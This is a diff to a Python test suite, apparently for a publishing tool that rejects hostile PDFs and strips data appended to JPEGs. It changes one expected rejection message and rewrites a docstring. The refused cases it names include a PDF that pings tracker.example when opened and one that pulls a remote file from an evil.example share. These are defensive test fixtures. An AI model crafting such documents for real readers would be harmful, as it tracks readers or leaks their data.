@@ -372,7 +372,7 @@ REFUSED: list[Callable[[Path], Where]] = [
     pdf_case("pdf-launch", launching, "start a program"),
     pdf_case("pdf-password", lambda writer: writer.encrypt("secret"), "protected by a password"),
     pdf_case("pdf-beacon", on_open(action("/URI", URI="https://tracker.example/pixel?doc=report")), "act on its own"),
-    pdf_case("pdf-remote-file", on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "act on its own"),
+    pdf_case("pdf-remote-file", on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer"),
     docs_pdf_script,
     docs_pdf_html,
     body_case("bracket-flood", "Вставлено з таблиці: " + "[" * 20_000, "[[[[", "more brackets"),
@@ -786,7 +786,9 @@ def test_pictures_of_hand_written_pages_and_logos_lose_their_metadata(hostile: B
 
 
 def test_what_a_picture_file_holds_past_its_picture_reaches_no_reader(hostile: Built) -> None:
-    """A clean, light JPEG is published as it is: only once its whole file is seen to hold nothing else."""
+    """A clean, light JPEG was published as it is, once what came before its first scan was seen to be clean: what
+    followed its end went with it. Every JPEG is now encoded again, and a picture of docs/ published as it is only
+    once its whole file is seen to hold nothing else (hub.outputs.bare)."""
     published = [path for path in hostile.site.rglob("*") if path.is_file()]
     assert [path for path in published if SECRET_APPENDED.encode() in path.read_bytes()] == []
     for name in ("meeting", "family"):
